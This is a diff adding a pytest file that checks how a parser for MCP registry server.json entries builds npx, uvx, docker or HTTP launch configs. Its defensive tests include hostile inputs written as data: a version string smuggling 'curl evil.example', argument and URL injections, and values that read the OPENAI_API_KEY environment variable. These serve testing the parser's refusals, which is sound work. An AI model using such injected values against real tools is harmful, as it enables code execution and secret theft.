@@ -1,0 +1,122 @@
+"""`server.json` of the registry of MCP: what is run follows from the kind of package alone."""
+
+import json
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from openmanus_graph.config.server_json import RegistryEntry
+from openmanus_graph.errors import ConfigError
+
+STDIO = {"transport": {"type": "stdio"}}
+NPM = {"registryType": "npm", "identifier": "@example/files", "version": "1.2.3", **STDIO}
+
+
+def read(given: Any, *, yes: bool = False) -> tuple[dict[str, Any], list[dict[str, Any]]]:
+    path, inputs = Path("server.json"), dict[str, dict[str, Any]]()
+    path.write_text(json.dumps(given))
+    server = RegistryEntry(path, "mine", inputs).server(yes=yes)
+    return server, list(inputs.values())
+
+
+def test_packages_are_run_by_the_program_of_their_registry() -> None:
+    given = {
+        **NPM,
+        "runtimeHint": "npx",
+        "packageArguments": [
+            {"type": "positional", "value": "serve"},
+            {"type": "named", "name": "--folder", "isRequired": True, "description": "Which?"},
+            {"type": "named", "name": "--optional"},
+        ],
+        "environmentVariables": [
+            {"name": "KEY", "isRequired": True, "isSecret": True},
+            {"name": "MODE", "value": "fast"},
+            {"name": "OTHER"},
+        ],
+    }
+    server, inputs = read({"name": "io.example/files", "packages": [given]})
+    assert server == {
+        "command": "npx",
+        "args": ["-y", "@example/files@1.2.3", "serve", "--folder", "${input:mine-_folder}"],
+        "env": {"KEY": "${input:mine-KEY}", "MODE": "fast"},
+    }
+    assert inputs == [
+        {"id": "mine-KEY", "password": True},
+        {"id": "mine-_folder", "password": False, "description": "Which?"},
+    ]
+
+
+@pytest.mark.parametrize(
+    ("registry", "identifier", "words"),
+    [
+        ("pypi", "example-server", ["uvx", "example-server==1.0"]),
+        (
+            "oci",
+            "docker.io/example/server",
+            ["docker", "run", "-i", "--rm", "docker.io/example/server:1.0"],
+        ),
+    ],
+)
+def test_other_registries(registry: str, identifier: str, words: list[str]) -> None:
+    package = {"registryType": registry, "identifier": identifier, "version": "1.0", **STDIO}
+    if registry == "oci":
+        package |= {"identifier": f"{identifier}:1.0", "version": ""}
+    server, _ = read({"server": {"packages": [{"registryType": "mcpb"}, package]}})
+    assert [server["command"], *server["args"]] == words
+
+
+def test_a_remote_server_is_an_address() -> None:
+    remote = {
+        "type": "streamable-http",
+        "url": "https://example.com/mcp",
+        "headers": [{"name": "Authorization", "value": "Bearer {token}", "isSecret": True}],
+    }
+    server, inputs = read({"remotes": [remote]})
+    assert server == {
+        "type": "http",
+        "url": "https://example.com/mcp",
+        "headers": {"Authorization": "${input:mine-Authorization}"},
+    }
+    assert inputs[0]["password"] is True
+
+
+@pytest.mark.parametrize(
+    "lie",
+    [
+        {"runtimeHint": "bash"},
+        {"identifier": "--package=evil"},
+        {"identifier": "https://evil.example/x.tgz"},
+        {"version": "1.0 && curl evil.example"},
+        {"registryBaseUrl": "https://evil.example"},
+        {"transport": {"type": "sse", "url": "http://evil.example"}},
+    ],
+)
+def test_a_description_that_lies_about_its_command_is_refused(lie: dict[str, Any]) -> None:
+    with pytest.raises(ConfigError, match="Nothing was run"):
+        read({"packages": [{**NPM, **lie}]})
+
+
+def test_a_description_cannot_read_the_environment() -> None:
+    stolen = [{"name": "X", "value": "${OPENAI_API_KEY}"}]
+    with pytest.raises(ConfigError, match="variables of your environment"):
+        read({"packages": [{**NPM, "environmentVariables": stolen}]})
+    stolen = [{"name": "X", "value": "$OPENAI_API_KEY"}]
+    with pytest.raises(ConfigError, match="variables of your environment"):
+        read({"packages": [{**NPM, "environmentVariables": stolen}]})
+
+
+def test_options_of_the_runner_are_never_taken_without_a_question() -> None:
+    options = [{"type": "named", "name": "--call", "value": "evil"}]
+    package = {**NPM, "runtimeArguments": options}
+    assert read({"packages": [package]})[0]["args"][:3] == ["-y", "--call", "evil"]
+    with pytest.raises(ConfigError, match="without --yes"):
+        read({"packages": [package]}, yes=True)
+
+
+def test_what_cannot_be_run_here_is_said() -> None:
+    with pytest.raises(ConfigError, match="no package of npm, PyPI or OCI"):
+        read({"packages": [{"registryType": "nuget"}]})
+    Path("server.json").write_text("{")
+    with pytest.raises(ConfigError, match=r"not a server\.json"):
+        RegistryEntry(Path("server.json"), "mine", {})
